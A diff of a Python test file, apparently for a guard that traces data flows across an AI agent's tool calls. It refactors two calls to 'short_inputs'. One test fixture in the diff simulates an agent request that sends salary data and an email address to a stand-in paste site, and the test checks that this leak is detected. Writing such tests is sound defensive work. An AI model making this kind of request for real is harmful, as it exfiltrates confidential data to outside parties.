@@ -1068,7 +1068,7 @@ def test_a_page_that_a_server_with_another_name_fetches_is_a_strangers() -> None
 def test_traces_cross_to_another_process_unchanged() -> None:
     arguments: JsonObject = {"url": "https://paste.example/j/a?who=ana@garden.example&b=" + "c1" * 30, "body": SALARIES}
     subject = call("web", "http_request", arguments, READ_SALARIES)
-    traces = replace(traces_of(subject), inputs=tuple(short_inputs(subject, class_of_call(subject))))
+    traces = replace(traces_of(subject), inputs=tuple(short_inputs(subject)))
     assert any(it.address for it in traces.outgoing)
     assert any(it.named for it in traces.outgoing)
     arrived = traces_from_json(json.loads(json.dumps(traces_to_json(traces))))
@@ -1098,7 +1098,7 @@ def test_s43_memory_is_asked_of_a_long_call_without_a_look_at_its_texts(to: str)
     """Row 43: another process has found what is in them, so that no text keeps this one from other apps' calls."""
     ordered = earlier("web", "fetch", f"{ORDER} {PAGE}", url="https://garden.example")
     subject = call("chat", "send_invitation", {"to": to, "title": "Rota", "text": "hello " * 4_000}, ordered)
-    there = replace(traces_of(subject), inputs=tuple(short_inputs(subject, class_of_call(subject))))
+    there = replace(traces_of(subject), inputs=tuple(short_inputs(subject)))
     texts, values = _Guarded(subject.texts), _Guarded(subject.values())
     here = replace(subject, texts=texts)
     force_setattr(here, "_values", values)
